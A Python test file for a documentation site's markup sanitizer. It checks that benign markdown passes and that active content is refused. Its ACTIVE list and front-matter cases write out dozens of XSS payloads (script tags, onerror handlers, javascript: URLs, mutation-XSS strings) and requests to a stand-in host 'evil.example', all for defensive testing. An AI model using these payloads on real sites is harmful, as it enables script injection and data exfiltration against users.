"""What a page's markup becomes: what is allowed, what is refused, and that plain pages need no renderer."""

from __future__ import annotations

import random
import re
import subprocess
import sys
import time
from collections.abc import Iterator
from itertools import pairwise
from pathlib import Path
from typing import Any

import markdown
import pytest
from lxml import html
from mkdocs.utils.meta import get_data

from scripts import rules
from scripts.finding import Unreadable
from scripts.publication import allowed, article, chapters, meant, plain, rendered, rendering
from tests import cases
from tests.conftest import put_article

ROOT = Path(__file__).parents[2]
FAMILY = {name for name, rule in rules.RULES.items() if rule.family == "markup"}
FILES = frozenset({"docs/images/map.svg"})
THAW = (cases.BAD / "article/docs/thaw.md").read_text(encoding="utf-8")

pytestmark = pytest.mark.usefixtures("read_once")


def found(text: str) -> list[str]:
    """What the rules of markup find in the tiny article with a text at the end of a chapter, from its line 6 on."""
    files = article.files(cases.BAD / "article") | {"docs/thaw.md": f"{THAW}\n{text}\n".encode()}
    built = article.build(files, cases.TODAY, FILES)
    return [str(finding) for finding in rules.check(built) if finding.rule in FAMILY or built.problems]


GOOD = {
    "a heading": "## A new part\n\nThe bridge stood.",
    "a heading with an id": "### Part two {#two .x}\n\nSee [it](#two) and [this](#part-one).\n\n### Part one",
    "a note": "The bridge stood.[^z]\n\n[^z]: One note.",
    "a note of two paragraphs": "[^z]: One note.\n    With a second line.\n\n    And a paragraph.\n\nThe bridge stood.[^z]",
    "a table": "| Year | Ice |\n|:--|---:|\n| 2019 | It *held*. |\n| `x` | [l](ice.md) n[@wu2019] |\n"
    "| `a|b` | c \\| **d** &amp; e |\n| 2018 | |\n| 2017 |",
    "a figure": '<figure>\n  <img src="../images/map.svg" alt="A map">\n  <figcaption>The line</figcaption>\n</figure>',
    "a figure, indented": '<figure>\n    <img src="../images/map.svg">\n    <figcaption>The line</figcaption>\n</figure>',
    "a picture": "![A map](images/map.svg)",
    "a picture with attributes": "![A map](images/map.svg){ width=300 loading=lazy }",
    "an abbreviation": "The IBT met.\n\n*[IBT]: Ice and Bridge Trust",
    "a quotation": "> I never saw such ice\n> in all my years.\n>\n> - an item in it",
    "lists": "1. A weir stood.[@wu2019]\n2. A mill stood.\n\n- a weir\n    - deep one\n- a mill\n\n* one\n\n    Its paragraph.",
    "code": '```python\nx = "**a [b](c) @d"\n<b onload>\n```\n\n~~~\nmore\n~~~',
    "escaped signs": r"It is \*starred\*, 5 * 3, a_b_c, C\#, &ast;, x < y, A&B, R & D, `co*de` and ``a `b` c``.",
    "links": "See [it](ice.md), [this](ice.md#ice), <https://example.org/a_b>, [x][r], [y](https://example.org/ 'T').\n\n"
    "[r]: https://example.org/x",
    "emphasis": "The *ice* and **bridge** and ***both*** and _this_ and __that__ and *a*b held.",
    "comments": "<!-- a comment -->\nThe ice held. <!-- is it? -->\n\n<!-- more\n\nlines -->",
    "a rule": "---\n\nAfter a rule.\n\n***",
    "HTML within a line": 'H<sub>2</sub>O, <abbr title="a &lt; b">b</abbr>, <q>x</q><br>\nthen the rest.',
    "a break by two spaces": "Two spaces at the end  \nthen the rest.",
    "HTML of several lines": '<div class="note">\n<p>A paragraph.</p>\n<ul>\n<li>one\n<li>two\n</ul>\n</div>',
    "a link in HTML": 'See <a href="../ice/#ice">ice</a>, <a href="../thaw/">x</a> and <a href="https://example.org/?a=b:c">y</a>.',
    "brackets of the author": 'He said "[sic]" and [the words] (brackets) — dashes – here … 100 % / 5 $ + 3 = 8.',
    "citations in a row": "It held.[@wu2019][@mill2019]\nIt held[@wu2019]; then not.[@wu2019; @mill2019]",
    "code that shows HTML": r"Write `<b>` and `</b>`, not ``<i>``, `&amp;` or `\d{3}`, and `*x*` for *x*; \`so\` is none.",
    "lists within lists": "- A weir.\n    1. A mill.\n    2. A gate.\n- A dam.\n\nSo:\n\n  - A weir.\n  - A mill.",
    "a list that goes on": "1. A weir.\n2. A mill.\n\n    Then the flood.\n\n3. A dam.\n\n> 1. A gate.\n\n3\\. The third.",
    "bullets by themselves": "• A weir.<br>\n• A mill.\n\n• A dam.\n\n• A gate • and a lock.",
    "money and paths": r"It cost $5 = £4, US$n_a and A$AP, or $9 in C:\Users\ice. \| is a bar, and a \| too.",
    "addresses of people": "He wrote to a@example.org, to <b@example.org> and to @somebody on #ice.",
}


@pytest.mark.parametrize("name", GOOD)
def test_what_a_text_may_hold(name: str) -> None:
    assert found(GOOD[name]) == []


# Each would run something, or ask another site, in some browser.
ACTIVE = [
    "The <script>x()</script> held.",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "The <img src=x onerror=alert(1)> held.",
    "The <img\nsrc=x\nonerror=y> held.",
    "<img src=x onerror\n=y>",
    "<svg onload=alert(1)>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert)",
    "[x](data:text/html,x)",
    "[x](vbscript:x)",
    "[x](java&Tab;script:x)",
    "[x](&#106;avascript:x)",
    "[x](<javascript:x>)",
    "[x]( javascript:x)",
    "<javascript:alert(1)>",
    '<a href="java\nscript:x">x</a>',
    '<a href=" &#1;javascript:x">x</a>',
    "<a href='javascript&colon;x'>x</a>",
    "[x][r]\n\n[r]: <javascript:x>",
    "[x](ice.md){href=javascript:x}",
    "![x](https://evil.example/x.png)",
    "![x](//evil.example/x.png)",
    "![x](\\\\evil.example/x.png)",
    "![x](/\\evil.example/x.png)",
    "![x](images/map.svg){: src=https://evil.example/x }",
    "![x](images/map.svg){ onload }",
    '<img srcset="https://evil.example/x.png 2x" src="a.png">',
    '<img src="data:image/svg+xml,x">',
    '<div style="background:url(//evil.example)">x</div>',
    "<style>@import url(//evil.example)</style>",
    "<iframe src=x></iframe>",
    "<object data=x></object>",
    "<embed src=x>",
    "The <base href=//evil.example> held.",
    '<meta http-equiv=refresh content="0;url=//evil.example">',
    "<link rel=stylesheet href=//evil.example>",
    "<form action=//evil.example><button>go</button></form>",
    "<button formaction=javascript:x>go</button>",
    "<input autofocus onfocus=y>",
    "<a href=../ice/ ping=//evil.example>x</a>",
    "<a href=../ice/ target=_blank>x</a>",
    "<table background=//evil.example><tr><td>x</td></tr></table>",
    "<video poster=//evil.example></video>",
    "<audio src=//evil.example autoplay></audio>",
    "<details open ontoggle=y>x</details>",
    "<x-y onclick=z>q</x-y>",
    "## Head {onclick=x}",
    '## Head {: style="x" }',
    "The *bridge*{onmouseover=x} stood.",
    "| a | b |\n|---|---|\n| 1 {onclick=x} | 2 |",
    "- item\n{: onclick=x }",
    "``` {.python onclick=x}\ncode\n```",
    '<pre class="mermaid"><code>graph</code></pre>',
    '<div id="__config">{"base":"https://evil.example"}</div>',
    r"## \_\_config",
    "<!-- a --><img src=x onerror=y>",
    "<!--> <img src=x onerror=y> -->",
    "<!-- --!> <img src=x onerror=y> -->",
    "<![CDATA[ <img src=x onerror=y> ]]>",
    "<? <img src=x onerror=y> ?>",
    "\\`<img src=x onerror=y>\\`",
    "[^z]: <img src=x onerror=y>\n\nThe[^z] bridge.",
    "> <script>x</script>",
    "- <script>x</script>",
    '<a title="<img src=x onerror=y>">x</a>',
    '<noscript><p title="</noscript><img src=x onerror=y>"></noscript>',
    '<textarea><img title="</textarea><img src=x onerror=y>"></textarea>',
    "<template><img src=x onerror=y></template>",
    "```\n<img src=x onerror=y>",
    '<img src="x" title="`" onerror=y `">',
]


@pytest.mark.parametrize("text", ACTIVE)
def test_what_runs_or_asks_another_site_is_refused_at_its_line(text: str) -> None:
    lines = range(6, 6 + len(text.split("\n")))
    own = [finding for finding in found(text) if finding.endswith("(markup-harmless)")]
    assert own
    assert {int(finding.split(":")[1]) for finding in own} <= set(lines), own


@pytest.mark.parametrize(
    "front",
    [
        'description: "x\\"><script>new Image()</script>"',
        "title: A <b>title</b>",
        'description: |\n  0;url=https://evil.example" http-equiv="refresh',
        "author: [a, {b: '<img src=x>'}]",
        "template: redirect.html\nlocation: https://evil.example/",
    ],
)
def test_front_matter_puts_no_html_into_the_head(front: str) -> None:
    files = article.files(cases.BAD / "article")
    files["docs/about.md"] = f"---\n{front}\n---\n".encode() + files["docs/about.md"]
    findings = rules.check(article.build(files, cases.TODAY))
    assert {finding.rule for finding in findings} == {"markup-harmless"}
    assert {finding.place.path for finding in findings} == {"docs/about.md"}


@pytest.mark.parametrize(
    "front",
    [
        "\n".join(f"{b}: &{b} [{', '.join([f'*{a}'] * 9)}]" for a, b in pairwise("abcdefghijk")).replace("*a", "x"),
        "b: &b [*b]",
    ],
)
def test_aliases_in_front_matter_that_have_no_end_end_the_check_all_the_same(front: str) -> None:
    files = article.files(cases.BAD / "article")
    files["docs/about.md"] = f"---\n{front}\n---\n".encode() + files["docs/about.md"]
    assert {f.rule for f in rules.check(article.build(files, cases.TODAY))} == {"markup-harmless"}


def test_a_page_beside_the_article_is_looked_at_as_well() -> None:
    files = article.files(cases.BAD / "article") | {
        "docs/deep/page.md": b"# A\n\n![x](../images/map.svg) [y](../ice.md)\n"
    }
    built = article.build(files, cases.TODAY, FILES)
    assert [f for f in rules.check(built) if f.rule in FAMILY] == []
    files["docs/deep/page.md"] = b"# A\n\n![x](images/map.svg) [y](ice.md)\n"
    built = article.build(files, cases.TODAY, FILES)
    assert [f.rule for f in rules.check(built) if f.rule in FAMILY] == ["page-link-resolves"] * 2


def test_links_to_headings_sentences_and_notes_of_a_chapter() -> None:
    assert (
        found(
            "[a](ice.md#ice), [b](ice.md#ice-held-until-march), [c](ice.md#fn:n1), [d](#thaw), [e](#f%C3%BCr)\n\n## Für {#für}"
        )
        == []
    )


@pytest.mark.parametrize("text", ['It was <q cite="gone.md">warm</q>.', '<p><iframe src="gone.md"></iframe></p>'])
def test_the_address_of_what_is_refused_is_not_looked_at(text: str) -> None:
    assert [finding[finding.rindex("(") :] for finding in found(text)] == ["(markup-harmless)"]


def test_the_lines_that_are_not_as_meant() -> None:
    files = article.files(cases.BAD / "article") | {"docs/thaw.md": f"{THAW}\n    It sank.\n\nIt **rose.\n".encode()}
    odd = [f for f in rules.check(article.build(files, cases.TODAY)) if f.rule in rules.NOT_AS_MEANT]
    assert [f.place[:2] for f in odd] == [("docs/thaw.md", 6), ("docs/thaw.md", 8)]


def test_an_article_of_plain_words_needs_no_renderer(tmp_path: Path) -> None:
    """A whole article, with the site's own settings; a page of other things is what takes the renderer."""
    put_article(tmp_path)
    code = (
        "import sys; from datetime import date; from pathlib import Path;"
        "from scripts import rules; from scripts.publication import article;"
        f"built = article.read(Path({str(tmp_path)!r}), date(2026, 11, 23)); rules.check(built); print(len(built.pages));"
        "print(sorted({'markdown', 'scripts.publication.rendering', 'scripts.publication.meant'} & set(sys.modules)))"
    )

    def loaded() -> list[str]:
        done = subprocess.run([sys.executable, "-c", code], cwd=ROOT, text=True, capture_output=True, check=True)
        return done.stdout.splitlines()

    pages = len(list((tmp_path / "docs").rglob("*.md")))
    assert loaded() == [str(pages), "[]"]
    (tmp_path / "docs/more.md").write_text("# More\n\n| a | b |\n|---|---|\n| 1 | 2 |\n", encoding="utf-8")
    assert loaded() == [
        str(pages + 1),
        "['markdown', 'scripts.publication.meant', 'scripts.publication.rendering']",
    ]


def test_the_usual_extensions_are_those_of_this_site() -> None:
    text = (ROOT / "mkdocs.yml").read_text(encoding="utf-8")
    own = {name for name, _ in rendering.extensions(article._config(text).extensions)}
    assert own - set(rendering.ALWAYS) == {name for name, _ in rendering.USUAL}
    assert own <= plain.KNOWN


@pytest.mark.parametrize(
    "text",
    [
        "---\na: b\n---\n\nc\n",
        "---\n- a\n---\nc\n",
        "---\na: b\nc\n",
        "a: b\n    c\nd: e\n\nf\n",
        "a: b\nc\n",
        "--- \na: 1\n...\nc\n",
        "a\n",
    ],
)
def test_front_matter_is_parted_as_mkdocs_does(text: str) -> None:
    data, first, body = rendering.front_matter(text)
    theirs, meta = get_data(text)
    assert body.lstrip("\n") == theirs.rstrip("\n") + ("\n" if text.endswith("\n") else "")
    assert set(data) == set(meta)
    assert text.split("\n")[first - 1 :] == body.split("\n")


# What is put together at random: plain lines, and then everything else.
PLAIN = [
    "The ice held.", "It sang, said Ada Mill.[@mill2019]", '"It sang", he said; 2019 was cold (very).[^z]', "# A title",
    "- an item with [a link](ice.md) and **bold** words.", "See [it](https://example.org/a-b?c=d), *so* it is.", "",
    "## Of *this* and that", "R&D: it's 5 % — “so” … he said!", "{{ chapters }}", "3 boats and (two) more.",
    "[^z]: See [@mill2019, p. 4]. It *was* cold.",
]  # fmt: skip
ODD = [
    *(text for text in ACTIVE if len(text) < 90), *GOOD.values(), "    ", "\t", "> ", "- ", "1. ", "```", "~~~", "**", "*", "_", "`", "[", "](",
    "<div>", "</div>", "<b>", "</b>", "<!--", "-->", "{: ", "}", "|", "|---|", "\\", "---", "===", "#", "&lt;", "&#", ":", "\n", "\n\n", "'", '"',
    "onclick=x", "<p", ">", "/>", "[r]: javascript:x", "[x][r]", "*[a]: b", "[^z]: ", "[@mill2019]", "\x02", "\u2028", "\ue03a", "\x0b",
]  # fmt: skip


def mixtures(seed: int, snippets: list[str], joints: list[str]) -> Iterator[str]:
    chance = random.Random(seed)
    while True:
        yield "".join(chance.choice(snippets) + chance.choice(joints) for _ in range(chance.randint(1, 9)))


def shown(text: str) -> list[str]:
    """What Python-Markdown alone makes of a text, its words in lines, as lxml reads it."""
    made = markdown.markdown(
        re.sub(r"\[@[\w-]+\]|\[\^z\]", "", text), extensions=["attr_list", "abbr", *rendering.ALWAYS]
    )
    tree = html.fromstring(f"<div>{made}</div>")
    return [" ".join(line.split()) for line in "".join(map(str, tree.itertext())).split("\n") if line.strip()]


def test_a_plain_page_shows_what_the_reader_of_chapters_reads() -> None:
    plain_pages = 0
    for text in (text for text, _ in zip(mixtures(1, PLAIN, ["\n", "\n", "\n\n"]), range(750), strict=False)):
        links = plain.links(text)
        if links is None:
            continue
        plain_pages += 1
        blocks = chapters.read("docs/x.md", text).blocks
        own = re.sub(r"^\[\^z\]: .*", "", text, flags=re.MULTILINE)  # notes are shown apart
        assert [block.text for block in blocks if isinstance(block, chapters.Heading | chapters.Sentence)] == shown(own)
        assert meant.see(chapters.read("docs/x.md", text), text, rendering.USUAL).oddities == (), text
    assert plain_pages > 250


NOTE = "It sang.[^z]\n\n[^z]: See *this*.\n"


@pytest.mark.parametrize(
    ("text", "is_plain"),
    [
        (NOTE, True),
        (f"{NOTE}\n[^y]: Another.\n", True),
        (f"{NOTE}\n[^z]: The same again.\n", False),
        (f"{NOTE}It went on.\n", False),
        ("It sang.[^z]\n[^z]: See this.\n", False),
        ("It sang.[^z]\n\n[^z]: See this.[^y]\n", False),
        ("It sang.[^z]\n\n[^z]: - an item\n", False),
    ],
)
def test_a_note_is_plain_where_it_is_a_line_by_itself_with_a_label_of_its_own(text: str, is_plain: bool) -> None:
    assert (plain.links(text) == ()) == is_plain
    assert is_plain or plain.links(text) is None


def active(text: str) -> list[str]:
    """What a page would run, or ask of others, as lxml reads what Python-Markdown alone makes of it."""
    body = rendering._with_footnotes(get_data(text)[0])
    made = markdown.markdown(body, extensions=["attr_list", "abbr", "footnotes", *rendering.ALWAYS])
    wrong = []
    for element in html.fromstring(f"<div>{made}</div>").iter("*"):
        if element.tag not in allowed.ELEMENTS:
            wrong.append(element.tag)
        for name, value in element.attrib.items():
            bare = re.sub(r"[\x00-\x20]", "", str(value)).lower()
            scheme = re.match(r"[a-z][a-z0-9+.-]*:", bare)
            if (
                str(name).startswith("on")
                or (name == "style" and "text-align" not in bare)
                or name in ("srcset", "ping")
            ):
                wrong.append(str(name))
            if name in ("href", "src") and scheme and scheme[0] not in ("http:", "https:", "mailto:"):
                wrong.append(bare)
            if name == "src" and (scheme or bare.startswith(("//", "\\"))):
                wrong.append(bare)
    return wrong


def test_whatever_a_page_would_run_is_refused() -> None:
    would_run = 0
    for text in (text for text, _ in zip(mixtures(2, ODD, ["", " ", "\n", "\n\n"]), range(750), strict=False)):
        try:
            read = chapters.read("docs/x.md", plain.bearable("docs/x.md", text))
            links = plain.links(text)
            seen = meant.see(read, text, rendering.USUAL)
        except Unreadable:
            continue
        last = text.count("\n") + 1
        assert all(1 <= oddity.line <= last and oddity.what for oddity in seen.oddities)
        if active(text):
            would_run += 1
            assert links is None, text
            assert [oddity for oddity in seen.oddities if oddity.what in rendered.HARMFUL], text
    assert would_run > 150


OPENS = [
    "[",
    "[x](",
    "[x][",
    "![",
    "[@a",
    "<",
    "<!--",
    "<div>",
    "*a ",
    "_a ",
    "**a ",
    '"a ',
    "'a ",
    "“a ",
    "{",
    "(",
    "> ",
    "- ",
]


@pytest.mark.parametrize("sign", OPENS)
def test_what_libraries_cannot_bear_is_refused_before_they_see_it(sign: str) -> None:
    """On one line; in the lines of one block."""
    for text in (sign * 20_000, "\n".join([sign * 100] * 50)):
        with pytest.raises(Unreadable) as caught:
            plain.bearable("docs/x.md", text)
        (finding,) = caught.value.findings
        assert finding.message.count("; ") == 1


@pytest.mark.parametrize("sign", ["<a ", "<!-- ", "<div>", "```a"])
def test_what_is_open_to_the_end_of_a_page_is_counted_over_the_page(sign: str) -> None:
    with pytest.raises(Unreadable):
        plain.bearable("docs/x.md", f"{sign}\n\n" * 1000)


@pytest.mark.parametrize(
    "sign", ["[sic] ", "*a* ", "<b>a</b> ", "<br>", '"a" ', "don't ", "`a` ", "(a) ", "[@a] ", "5 * 3 "]
)
def test_what_is_closed_may_be_many(sign: str) -> None:
    text = f"{sign * 100}\n" * 100
    assert plain.bearable("docs/x.md", text) == text


def test_what_is_refused_is_told_alone() -> None:
    assert found("[" * 20_000) == [
        "docs/thaw.md:6: is a line of 20,000 characters, where 10,000 can be read; part it (file-readable)"
    ]
    (deep,) = found("> " * 51 + "x")
    assert deep.startswith("docs/thaw.md:6: begins '> > ")


def test_the_work_on_a_page_grows_with_its_length(monkeypatch: pytest.MonkeyPatch) -> None:
    """Counted in lines that are looked at for a hint, on a page whose every line is odd, or has a link."""
    looked = 0

    class Lines(list[str]):
        def __getitem__(self, at: Any) -> Any:
            nonlocal looked
            looked += 1
            return super().__getitem__(at)

    monkeypatch.setattr(rendering, "lines_of", lambda text: Lines(["", *text.split("\n")]))
    for line in ("The <b onclick=x>ice</b> held.", "See [the ice][r].", "It **held."):
        counts = []
        for size in (400, 1600):
            looked = 0
            text = f"{line}\n\n" * size + "[r]: ice.md\n"
            meant.see(chapters.read("docs/x.md", text), text, rendering.USUAL)
            counts.append(looked)
        assert counts[1] <= 6 * counts[0], line


def test_a_block_is_looked_at_once_whatever_is_found_in_it() -> None:
    """Six thousand titles take a second or two, and as many comments without an end no longer."""
    files = article.files(cases.BAD / "article")
    files["docs/about.md"] += b"\n" + b"# a\n" * 6_000
    files["record/notes.md"] = b"<!-- " * 12_000
    begun = time.process_time()
    assert rules.check(article.build(files, cases.TODAY))
    assert time.process_time() - begun < 10


def test_a_fault_of_our_own_is_no_fault_of_the_page(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delattr(rendering, "replace_cited")
    with pytest.raises(NameError, match="replace_cited"):
        rendering.render("docs/x.md", "The ice held.[@mill2019] <b>It sang</b>.", rendering.USUAL)
